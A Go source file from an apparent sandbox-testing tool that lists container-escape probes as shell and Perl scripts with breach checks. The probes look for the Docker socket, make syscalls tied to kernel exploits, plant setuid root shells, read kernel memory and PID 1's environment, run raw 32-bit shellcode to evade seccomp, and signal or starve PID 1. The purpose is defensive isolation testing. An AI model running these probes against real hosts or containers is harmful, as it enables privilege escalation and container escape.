package table

import (
	"os"
	"strings"

	"sandboxrun/cmd/sandboxrun/attack"
)

// callNumber sets NUMBER to a system call's number on this processor: x86-64's first, then that of the others.
const callNumber = `
number() { case $(uname -m) in x86_64) NUMBER=$1 ;; *) NUMBER=$2 ;; esac; }
# call NAME: makes call NUMBER with arguments that are none, and says so unless it is refused.
call() { perl -e '
	my ($name, $n, @args) = @ARGV;
	my $r = syscall($n, map { int } @args);
	print "GOT $name: ", ($r >= 0 ? "done" : "$!"), "\n" unless $r == -1 && ($! == 1 || $! == 13 || $! == 38);
' "$1" "$NUMBER" 0 ${2:-0} 0 0 0; }
`

func container() []attack.Attack {
	return append([]attack.Attack{
		selfTest("C15"),
		attack.Scripted("C01", attack.Container, "use the engine through its socket", `
for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock /run/crio/crio.sock; do
	[ ! -S $s ] || echo "GOT $s"
done`).NaiveFlags("-v", "/var/run/docker.sock:/var/run/docker.sock:ro"),
		selfTest("C02"),
		selfTest("C03"),
		attack.Scripted("C03b", attack.Container, "make the system calls of known kernel exploits", callNumber+`
number 321 280; call bpf
number 298 241; call perf_event_open
number 250 219; call keyctl -3
number 248 217; call add_key
number 425 425; call io_uring_setup
number 323 282; call userfaultfd
number 304 265; call open_by_handle_at
number 175 105; call init_module
number 430 430; call fsopen`).NaiveFlags("--security-opt", "seccomp=unconfined").InSentry("perf_event_open", "keyctl", "open_by_handle_at"),
		attack.Scripted("C03c", attack.Container, "open sockets of unusual families", `
for family in 17 38 40 31 29 44 15 30 21; do # packet alg vsock bluetooth can xdp key tipc rds
	perl -MSocket -e 'socket(my $s, $ARGV[0], $_, 0) and print "GOT family $ARGV[0]\n" and exit for 1, 2, 3, 5' $family
done`),
		attack.Scripted("C29", attack.Container, "open sockets of unusual protocols within the usual families", `
socket() { perl -MSocket -e 'my ($f, $t, $p) = @ARGV; socket(my $s, $f, $t, $p) and print "GOT protocol $p of family $f\n"' $1 $2 $3; }
socket 2 1 262; socket 2 5 132; socket 2 1 132; socket 2 6 33; socket 2 2 136; socket 2 2 1; socket 10 2 58 # mptcp sctp dccp udplite ping
for p in 2 4 5 6 9 11 12 15 16 18 20 21; do socket 16 3 $p; done # netlink beyond routes
perl -MSocket -e 'socketpair(my $a, my $b, 30, 5, 0) and print "GOT a pair of family 30\n"' # tipc
true`).InSentry("protocol"),
		attack.Scripted("C30", attack.Container, "take huge pages, which no limit of the box counts", callNumber+`
huge() { perl -e 'my ($name, $n, @args) = @ARGV; my $path = "huge"; $args[0] = $path if $name eq "memfd";
	my $r = syscall($n + 0, map { /^-?\d+$/ ? int : $_ } @args); print "GOT $name\n" if $r >= 0 || $! == 12' "$1" "$NUMBER" "$2" "$3" "$4" "$5" 0 0; }
number 319 279; huge memfd 0 4 0 0
number 9 222; huge mmap 0 2097152 3 262178
number 29 194; huge shmget 0 2097152 2432 0
true`).InSentry("mmap", "shmget"),
		attack.Scripted("C06", attack.Container, "replace the working directory of later commands", `
cd /; mv $ROOT /elsewhere 2>/dev/null && echo GOT it moved away
rmdir $ROOT 2>/dev/null && echo GOT it removed
umount -l $ROOT 2>/dev/null && echo GOT it unmounted
true`).NaiveFlags("--cap-add", "SYS_ADMIN", "--security-opt", "apparmor=unconfined"),
		selfTest("C08"),
		{
			ID: "C09", Group: attack.Container, Title: "leave a setuid root program on the host", Shares: true,
			Script: `cp /bin/sh shell; chmod 4755 shell; ls -l shell; cp /bin/sh group; chmod 2755 group`,
			Breached: func(s attack.Scene) string {
				for _, name := range []string{"shell", "group"} {
					if mode := s.Then[s.Own(name)]; strings.HasPrefix(mode, "u") || strings.HasPrefix(mode, "g") {
						return "the host has " + name + " with mode " + strings.Fields(mode)[0]
					}
					if f, ok := s.Landed[s.Own(name)]; ok && f.Mode != "100755" {
						return "the landed tree has " + name + " with mode " + f.Mode
					}
				}
				return ""
			},
		},
		selfTest("C10"),
		{
			ID: "C11", Group: attack.Container, Title: "share namespaces with the host", Shares: true, Naive: attack.Naive{Flags: []string{"--ipc=host", "--uts=host"}},
			Script:   `for n in cgroup ipc mnt net pid uts; do echo "NS $n $(readlink /proc/self/ns/$n)"; done`,
			Breached: sharedNamespace,
		},
		attack.Scripted("C12", attack.Container, "propagate mounts between box and host", `
grep -E ' shared:[0-9]+ ' /proc/self/mountinfo | sed 's/^/GOT /'`).NoNaive("whether mounts are shared depends on the machine's own"),
		attack.Scripted("C09b", attack.Container, "gain rights through a privileged program of the image", `
for f in $(find / -xdev -perm /6000 -type f 2>/dev/null | head -50); do echo "there: $f"; done
cp /bin/sh /tmp/suid 2>/dev/null && chmod 4755 /tmp/suid && /tmp/suid -p -c 'id -u' | grep -qx 0 && echo GOT root
su -s /bin/sh -c 'echo GOT root by su' root </dev/null 2>/dev/null
true`),
		attack.Scripted("C16", attack.Container, "read the kernel's secrets and foreign processes", `
dmesg 2>/dev/null | head -1 | sed 's/^/GOT the log: /'
for f in /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug /dev/mem /dev/kmsg; do
	[ -z "$(timeout 2 head -c 16 $f 2>/dev/null | tr -d '\0')" ] || echo "GOT $f"
done
ls /sys/firmware /sys/kernel/debug /sys/kernel/tracing 2>/dev/null | grep -v '^/' | grep -q . && echo GOT directories of the kernel
for c in /proc/[0-9]*/comm; do grep -qxE 'dockerd|containerd|systemd|init|sshd|kthreadd' $c 2>/dev/null && echo "GOT process $(cat $c)"; done
true`).NaiveFlags("--security-opt", "systempaths=unconfined", "--pid=host").InSentry("the log"),
	}, containerOwn()...)
}

// containerOwn are attacks from no published list.
func containerOwn() []attack.Attack {
	return []attack.Attack{
		attack.Scripted("C17", attack.Container, "make sockets by 32-bit system calls, which filters do not see", `
# An ELF of 32 bits: socketcall(SYS_SOCKET, {AF_UNIX, SOCK_STREAM, 0}), exit with 0 if that gave a descriptor.
printf '\177ELF\001\001\001\0\0\0\0\0\0\0\0\0\002\0\003\0\001\0\0\0\124\200\004\010\064\0\0\0\0\0\0\0\0\0\0\0\064\0\040\0\001\0\0\0\0\0\0\0\001\0\0\0\0\0\0\0\0\200\004\010\0\200\004\010\220\0\0\0\220\0\0\0\005\0\0\0\0\020\0\0' > /tmp/c17
# push 0; push 1; push 1; mov ecx,esp; mov ebx,1; mov eax,102; int 0x80; mov ebx,eax; shr ebx,31; mov eax,1; int 0x80
printf '\152\0\152\001\152\001\211\341\273\001\0\0\0\270\146\0\0\0\315\200\211\303\301\353\037\270\001\0\0\0\315\200\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220\220' >> /tmp/c17
chmod +x /tmp/c17; /tmp/c17 2>/dev/null && echo GOT a socket
rm -f /tmp/c17`),
		attack.Scripted("C19", attack.Container, "impersonate the main process of the box", `
(echo stray > /proc/1/fd/1) 2>/dev/null && echo GOT its standard output
(exec 3<>/proc/1/mem) 2>/dev/null && echo GOT its memory
cat /proc/1/environ 2>/dev/null | tr '\0' '\n' | head -1 | sed 's/=.*//; s/^/GOT its environment: /'
true`),
		attack.Scripted("C20", attack.Container, "make the kernel write a core dump on the host", `
[ "$(ulimit -c)" = 0 ] || echo "GOT dumps of $(ulimit -c) blocks"
ulimit -c unlimited 2>/dev/null && echo GOT the limit raised
true`),
		attack.Scripted("C21", attack.Container, "find the host's devices", `
for d in /dev/sd? /dev/vd? /dev/nvme* /dev/kvm /dev/fuse /dev/net/tun /dev/loop* /dev/dri /dev/vhost-*; do
	[ ! -e $d ] || echo "GOT $d"
done`).NaiveFlags("--device", "/dev/kmsg:/dev/kvm").InSentry("/dev/fuse", "/dev/net/tun"),
		selfTest("C24"),
		attack.Scripted("C25", attack.Container, "give a program capabilities by an attribute of its file", `
cp /bin/sh /tmp/c25
perl -e 'my ($n, $f, $x, $v) = ($ARGV[0] + 0, "/tmp/c25", "security.capability", pack("V5", 0x02000001, 0x2000, 0, 0, 0));
	syscall($n, $f, $x, $v, 20, 0) == 0 and print "GOT a program with capabilities\n"' $(case $(uname -m) in x86_64) echo 188 ;; *) echo 5 ;; esac)
rm -f /tmp/c25`),
		attack.Scripted("C27", attack.Container, "end the main process of the box, and put its output into the result", `
sh -c 'for s in QUIT TERM INT HUP ABRT SEGV BUS FPE ILL TRAP SYS STKFLT ALRM VTALRM PROF XCPU XFSZ USR1 USR2 PIPE IO PWR; do kill -$s 1; done' 2>/dev/null
perl -e 'my $queue = shift; my $info;
	for my $s (grep { $_ != 9 && $_ != 19 } 1 .. 64) {
		$info = pack("iiiiii", $s, 0, -1, 0, $$, $<) . chr(0) x 104; syscall($queue, 1, $s, $info);
	}' $(case $(uname -m) in x86_64) echo 129 ;; *) echo 138 ;; esac)
sleep 0.3`).NoNaive("its main process is the image's own, and nothing depends on it"),
		attack.Scripted("C28", attack.Container, "leave the main process of the box without memory and files", `
prlimit --pid 1 --as=16777216:16777216 2>/dev/null && echo GOT its memory
prlimit --pid 1 --nofile=0:0 2>/dev/null && echo GOT its files
true`).InSentry("its memory", "its files"),
		attack.Scripted("C26", attack.Container, "take another user's identity for file access", `
touch mine && chown 0:0 mine 2>/dev/null && echo GOT a file of root\'s
chgrp 0 mine 2>/dev/null && echo GOT a file of the group root
true`).NaiveFlags("--user", "0:0"),
	}
}

func sharedNamespace(s attack.Scene) string {
	var shared []string
	seen := 0
	for line := range strings.Lines(s.Output) {
		f := strings.Fields(line)
		if len(f) != 3 || f[0] != "NS" {
			continue
		}
		seen++
		if own, err := os.Readlink("/proc/self/ns/" + f[1]); err == nil && own == f[2] {
			shared = append(shared, f[1])
		}
	}
	switch {
	case seen == 0 && !s.Naive:
		return "the attack was not made: its output is " + attack.Tail(s.Output)
	case len(shared) == 0:
		return ""
	}
	return "namespaces of the host: " + strings.Join(shared, " ")
}
